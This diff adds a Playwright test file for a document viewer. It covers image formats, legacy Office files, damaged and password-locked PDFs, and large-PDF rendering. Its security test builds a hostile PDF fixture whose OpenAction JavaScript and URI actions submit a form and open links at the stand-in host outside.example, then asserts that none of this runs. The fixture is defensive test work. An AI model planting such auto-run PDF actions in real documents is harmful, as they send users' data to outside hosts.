@@ -1,0 +1,128 @@
+import { expect, test } from '@playwright/test';
+import { hasSamples, makePdf, sample, type TestFile } from './fixtures/files.ts';
+import { seedPerson } from './fixtures/seed.ts';
+import { openViewer } from './fixtures/viewer.ts';
+
+test.skip(!hasSamples, 'needs ../shared/samples');
+
+test('every kind is shown as what it is, and what cannot be says so [DVW-1, MVW-3]', async ({ page }) => {
+  test.setTimeout(120_000);
+  const pictures: [string, TestFile][] = ['jpeg', 'png', 'webp', 'gif', 'avif', 'bmp', 'heic', 'tiff'].map((kind) => [
+    kind,
+    sample(
+      {
+        jpeg: 'images/cmyk-no-profile.jpg',
+        png: 'images/png-16bit-flag.png',
+        webp: 'images/webp-photo.webp',
+        gif: 'images/gif-animated-squares.gif',
+        avif: 'images/avif-8bit-yuv420.avif',
+        bmp: 'images/bmp-24bit-cat.bmp',
+        heic: 'images/heic-iphone-photo.heic',
+        tiff: 'images/tiff-multi-page-text.tif',
+      }[kind] as string,
+    ),
+  ]);
+  await seedPerson(page, [
+    ...pictures.map(([name, file]) => ({ name, file })),
+    { name: 'old Word', file: sample('office/doc-97-sample.doc') },
+    { name: 'old Excel', file: sample('office/xls-97-sample.xls') },
+    { name: 'damaged', file: { name: 'damaged.pdf', mimeType: '', buffer: makePdf('x').buffer.subarray(0, 60) } },
+  ]);
+  for (const [name] of pictures) {
+    const viewer = await openViewer(page, name);
+    const picture = viewer.getByRole('img', { name, exact: true });
+    await expect(picture, name).toBeVisible({ timeout: 30_000 });
+    expect(await picture.evaluate((image: HTMLImageElement) => image.naturalWidth), name).toBeGreaterThan(20);
+  }
+  for (const name of ['old Word', 'old Excel']) {
+    const viewer = await openViewer(page, name);
+    await expect(viewer.getByText('Preview not available')).toBeVisible();
+    await expect(viewer.getByRole('link', { name: 'Download' }).last()).toBeVisible();
+  }
+  const viewer = await openViewer(page, 'damaged');
+  await expect(viewer.getByText('Failed to load document: the PDF is damaged')).toBeVisible();
+  await expect(viewer.getByRole('link', { name: 'Download' }).last()).toBeVisible();
+});
+
+test('a locked PDF asks for its own password, says when it is wrong, and opens with the right one [DVW-1]', async ({
+  page,
+}) => {
+  await seedPerson(page, [{ name: 'Locked', file: sample('hostile/encrypted-user-password-openpassword.pdf') }]);
+  const viewer = await openViewer(page, 'Locked');
+  const field = viewer.getByLabel('Password of this PDF');
+  await field.fill('a guess');
+  await page.keyboard.press('Enter');
+  await expect(viewer.getByText('This password does not open the PDF.')).toBeVisible();
+  await field.fill('openpassword');
+  await viewer.getByRole('button', { name: 'Open', exact: true }).click();
+  await expect(viewer.locator('canvas').first()).toBeVisible();
+});
+
+test('a PDF of 117 pages keeps the pages near the eye alone, each within what a phone can draw [DVW-1] @phone', async ({
+  page,
+}) => {
+  await seedPerson(page, [{ name: 'Book', file: sample('pdf/pages-many-117-german-math-book.pdf') }]);
+  const viewer = await openViewer(page, 'Book');
+  const canvases = viewer.locator('canvas');
+  await expect(canvases.first()).toBeVisible();
+  for (const share of [0.3, 0.6, 1]) {
+    await viewer
+      .locator('.vscroll')
+      .evaluate((scroller, at) => scroller.scrollTo(0, at * scroller.scrollHeight), share);
+    await expect(canvases.first()).toBeVisible();
+  }
+  await expect(viewer.getByLabel('Page 117 of 117')).toBeInViewport();
+  await expect.poll(() => canvases.count()).toBeLessThanOrEqual(6);
+  const sizes = await canvases.evaluateAll((all) =>
+    all.map((canvas) => (canvas as HTMLCanvasElement).width * (canvas as HTMLCanvasElement).height),
+  );
+  expect(Math.max(...sizes)).toBeLessThanOrEqual(16_777_216);
+});
+
+test('PDFs that carry scripts run none and ask nobody outside [SEC-37]', async ({ page }) => {
+  const outside: string[] = [];
+  const dialogs: string[] = [];
+  const own = () => new URL(page.url()).origin;
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  await seedPerson(page, [
+    { name: 'Actions', file: sample('pdf/javascript-document-actions.pdf') },
+    { name: 'Form', file: sample('pdf/xfa-form.pdf') },
+    { name: 'Calls', file: callingPdf() },
+  ]);
+  page.on('request', (request) => {
+    const url = new URL(request.url());
+    if (url.protocol.startsWith('http') && url.origin !== own()) outside.push(request.url());
+  });
+  for (const name of ['Actions', 'Form', 'Calls']) {
+    const viewer = await openViewer(page, name);
+    await expect(viewer.locator('canvas').first()).toBeVisible();
+    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
+    expect(await page.evaluate(() => (window as unknown as { scriptRan?: boolean }).scriptRan)).toBeUndefined();
+  }
+  expect(outside).toEqual([]);
+  expect(dialogs).toEqual([]);
+  // what a PDF could never do, our own policy forbids besides
+  const policy = (await page.request.get('/dashboard')).headers()['content-security-policy'];
+  expect(policy).toMatch(/script-src 'self';/);
+  expect(policy).not.toContain('unsafe-eval');
+});
+
+/** A page that, opened, runs a script, opens a site, submits a form and loads a picture from outside. */
+function callingPdf(): TestFile {
+  const script = `(app.alert\\('run'\\); this.submitForm\\('https://outside.example/submit'\\); globalThis.scriptRan = true;)`;
+  const { buffer } = makePdf('It calls out');
+  const text = buffer
+    .toString('latin1')
+    .replace(
+      '<< /Type /Catalog /Pages 2 0 R >>',
+      `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS ${script} >> /AA << /WC << /S /URI /URI (https://outside.example/close) >> >> >>`,
+    )
+    .replace(
+      '/Contents 4 0 R',
+      '/Contents 4 0 R /AA << /O << /S /URI /URI (https://outside.example/open) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://outside.example/link) >> >>]',
+    );
+  return { name: 'calls.pdf', mimeType: 'application/pdf', buffer: Buffer.from(text, 'latin1') };
+}
